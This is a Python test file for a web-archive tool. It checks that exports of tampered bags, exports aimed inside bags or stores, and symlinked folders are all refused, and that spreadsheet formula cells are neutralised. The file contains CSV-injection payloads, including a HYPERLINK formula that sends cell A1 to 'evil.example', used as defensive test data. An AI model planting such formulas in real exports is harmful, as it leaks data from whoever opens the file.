"""Exports and ``show`` of hostile bags, and exports aimed at bags and stores (adversarial
review R10, R11, R20; the CSV catalogue's formula cells).

Real bags captured into real stores. An export of a bag that does not validate, or aimed
inside a bag or store, must exit with one line, write nothing and change nothing.
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from helpers import SEED, capture_into, invoke, warc_of
from lxml import etree

from archiver.errors import InvalidBagError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what OWASP lists for CSV injection
CAPTION = "A Peshmerga fighter"  # words of a caption of the sample article


def files_of(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (links not followed) with its bytes."""
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink()
    }


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of two bags of the sample article, audited once (so it has its audit log)."""
    root = tmp_path_factory.mktemp("store")
    capture_into(root, str(SEED))
    capture_into(root, str(SEED))
    code, _, err = invoke("audit", root)
    assert code == 0, err
    return root


@pytest.fixture(scope="module")
def bags(store: Path) -> list[Path]:
    return sorted(store.glob("2016/11/19/*"))


@pytest.fixture
def bag(bags: list[Path], tmp_path: Path) -> Path:
    """A copy of a bag to damage, outside the store."""
    copy = tmp_path / "received" / bags[0].name
    shutil.copytree(bags[0], copy)
    return copy


def assert_refused(args: list[str | Path], code: int, message: str, out_dir: Path) -> str:
    """Run an export expected to fail: one line naming the reason, nothing written."""
    before = files_of(out_dir)
    exit_code, out, err = invoke(*args)
    assert exit_code == code, err
    assert message in err
    assert len(err.splitlines()) == 1 and "Traceback" not in err + out
    assert files_of(out_dir) == before
    return err


# --- R10: never inside a bag or a store ----------------------------------------------------------


def test_export_never_writes_into_another_bag_of_the_store(
    store: Path, bags: list[Path], tmp_path: Path
) -> None:
    before = files_of(store)
    for option, name in (("--wacz", "copy.wacz"), ("--oai-dc", "copy.xml")):
        target = bags[1] / "data" / name
        assert_refused(["export", bags[0], option, target], 2, "must not be inside", store)
        assert not target.exists()
    assert files_of(store) == before
    assert invoke("validate", bags[1])[0] == 0


def test_export_never_replaces_the_audit_log_even_with_force(store: Path, bags: list[Path]) -> None:
    log = store / ".audit" / "audit-log.jsonl"
    before = log.read_bytes()
    err = assert_refused(
        ["export", bags[0], "--oai-dc", log, "--force"], 2, "must not be inside", store
    )
    assert str(store) in err
    assert log.read_bytes() == before


def test_export_never_writes_into_the_store_root(store: Path, bags: list[Path]) -> None:
    for option, name in (("--wacz", "x.wacz"), ("--oai-dc", "x.xml")):
        assert_refused(["export", bags[0], option, store / name], 2, "must not be inside", store)
        assert not (store / name).exists()


def test_a_link_outside_pointing_into_a_bag_is_refused(
    store: Path, bags: list[Path], tmp_path: Path
) -> None:
    article = bags[1] / "data" / "article.txt"
    before = article.read_bytes()
    link = tmp_path / "innocent.xml"
    link.symlink_to(article)
    assert_refused(["export", bags[0], "--oai-dc", link, "--force"], 2, "must not be inside", store)
    assert article.read_bytes() == before and link.is_symlink()
    linked_folder = tmp_path / "folder"
    linked_folder.symlink_to(bags[1] / "data")
    assert_refused(
        ["export", bags[0], "--wacz", linked_folder / "x.wacz"], 2, "must not be inside", store
    )


def test_the_catalogue_is_never_written_into_any_bag(
    store: Path, bag: Path, tmp_path: Path
) -> None:
    before = files_of(bag)
    for option in ("--csv", "--xml"):
        assert_refused(
            ["export-store", store, option, bag / "data" / "holdings"], 2, "must not be inside", bag
        )
    assert files_of(bag) == before


def test_an_export_beside_the_store_is_written(
    store: Path, bags: list[Path], tmp_path: Path
) -> None:
    code, out, err = invoke(
        "export", bags[0], "--wacz", tmp_path / "a.wacz", "--oai-dc", tmp_path / "a.xml"
    )
    assert code == 0, err
    assert out.split() == [str(tmp_path / "a.wacz"), str(tmp_path / "a.xml")]


# --- R11: only a bag that validates, and only what its manifests list -----------------------------


def flip_a_byte(path: Path, at: int = 800) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 0xFF
    path.write_bytes(bytes(data))


def test_a_damaged_warc_is_refused_when_only_the_sha512_manifest_shows_it(
    bag: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    flip_a_byte(warc_of(bag))
    (bag / "manifest-sha256.txt").unlink()
    err = assert_refused(["export", bag, "--wacz", out / "a.wacz"], 1, "invalid", out)
    assert "nothing exported" in err
    assert_refused(["export", bag, "--oai-dc", out / "a.xml"], 1, "invalid", out)


def test_a_damaged_warc_whose_sha256_line_was_removed_is_refused(bag: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    warc = warc_of(bag)
    flip_a_byte(warc)
    manifest = bag / "manifest-sha256.txt"
    kept = [line for line in manifest.read_text().splitlines() if warc.name not in line]
    manifest.write_text("\n".join(kept) + "\n")
    assert_refused(["export", bag, "--wacz", out / "a.wacz"], 1, "the bag is invalid", out)


def test_an_unlisted_warc_makes_the_bag_invalid_and_is_never_packed(
    bag: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    listed = warc_of(bag).name
    injected = bag / "data" / "zz-injected.warc.gz"
    shutil.copyfile(bag / "data" / listed, injected)
    assert_refused(["export", bag, "--wacz", out / "a.wacz"], 1, "zz-injected.warc.gz", out)
    # Even asked to pack the bag without checking it first, only listed WARCs go in.
    from archiver.access.wacz import write_wacz

    result = write_wacz(bag, out / "b.wacz")
    with zipfile.ZipFile(out / "b.wacz") as wacz:
        names = wacz.namelist()
    assert "archive/zz-injected.warc.gz" not in names
    assert f"archive/{listed}" in names
    assert all("zz-injected" not in r.path for r in result.resources)


def test_every_manifest_is_checked_again_while_packing(bag: Path, tmp_path: Path) -> None:
    from archiver.access.wacz import write_wacz

    (bag / "manifest-sha256.txt").unlink()
    flip_a_byte(warc_of(bag))
    with pytest.raises(InvalidBagError, match="sha512"):
        write_wacz(bag, tmp_path / "b.wacz")  # the packing step alone, after a validation
    assert list(tmp_path.iterdir()) == [bag.parent]  # no WACZ, no temporary file


# --- R20: a linked data/ or metadata/ is never read ------------------------------------------


def linked_to(bag: Path, victim: Path, folder: str) -> None:
    """Replace the bag's ``folder`` by a link to the victim's."""
    shutil.rmtree(bag / folder)
    (bag / folder).symlink_to(victim / folder)


def test_show_and_export_never_read_through_a_linked_data_folder(
    bags: list[Path], bag: Path, tmp_path: Path
) -> None:
    linked_to(bag, bags[1], "data")
    (bag / "manifest-sha256.txt").unlink()
    code, out, err = invoke("show", bag, "--json")
    assert code == 0, err
    assert json.loads(out)["caption_texts"] == []
    assert json.loads(out)["captions"] is None
    code, out, _ = invoke("show", bag)
    assert CAPTION not in out
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    assert_refused(["export", bag, "--wacz", out_dir / "a.wacz"], 1, "B013", out_dir)


def test_show_never_reads_a_record_through_a_linked_metadata_folder(
    bag: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "metadata").mkdir(parents=True)
    shutil.copytree(bag / "metadata", elsewhere / "metadata", dirs_exist_ok=True)
    record = elsewhere / "metadata" / "dublin_core.xml"
    tree = etree.parse(str(record))
    title = tree.find("{http://purl.org/dc/elements/1.1/}title")
    assert title is not None
    title.text = "A title from outside the bag"
    tree.write(str(record), xml_declaration=True, encoding="UTF-8")
    linked_to(bag, elsewhere, "metadata")
    code, out, err = invoke("show", bag, "--json")
    assert code == 0, err
    assert "outside the bag" not in out
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    assert_refused(["export", bag, "--oai-dc", out_dir / "a.xml"], 1, "B013", out_dir)


# --- The CSV catalogue: formula cells ------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    from archiver.access.catalogue import csv_cell

    assert csv_cell(f'{start}HYPERLINK("http://evil.example")') == (
        f'\'{start}HYPERLINK("http://evil.example")'
    )


def test_other_cells_are_written_as_they_are() -> None:
    from archiver.access.catalogue import FORMULA_STARTS as DOCUMENTED
    from archiver.access.catalogue import csv_cell

    assert set(DOCUMENTED) == set(FORMULA_STARTS)
    assert csv_cell("Battle for Mosul") == "Battle for Mosul"
    assert csv_cell("2016-11-19") == "2016-11-19"
    assert csv_cell(1234) == 1234
    assert csv_cell(None) == ""
    assert csv_cell("") == ""


def test_a_formula_title_is_neutralised_in_the_csv_and_exact_in_the_xml(tmp_path: Path) -> None:
    store = tmp_path / "store"
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    code, _, err = invoke("capture", SEED, "--store", store, "--title", title, "--json")
    assert code == 0, err
    csv_path, xml_path = tmp_path / "holdings.csv", tmp_path / "holdings.xml"
    code, _, err = invoke("export-store", store, "--csv", csv_path, "--xml", xml_path)
    assert code == 0, err
    with csv_path.open(encoding="utf-8", newline="") as stream:
        [row] = list(csv.DictReader(stream))
    assert row["title"] == "'" + title
    assert row["payload_bytes"].isdigit() and row["date"] == "2016-11-19"
    titles = etree.parse(str(xml_path)).findall(".//{http://purl.org/dc/elements/1.1/}title")
    assert [t.text for t in titles] == [title]


def test_a_wacz_of_a_valid_bag_still_matches_its_manifests(
    bags: list[Path], tmp_path: Path
) -> None:
    code, _, err = invoke("export", bags[0], "--wacz", tmp_path / "a.wacz")
    assert code == 0, err
    listed = dict(
        reversed(line.split("  ", 1))
        for line in (bags[0] / "manifest-sha256.txt").read_text().splitlines()
    )
    with zipfile.ZipFile(tmp_path / "a.wacz") as wacz:
        warcs = [name for name in wacz.namelist() if name.startswith("archive/")]
        assert warcs, wacz.namelist()
        for name in warcs:
            digest = hashlib.sha256(wacz.read(name)).hexdigest()
            assert listed["data/" + name.removeprefix("archive/")] == digest
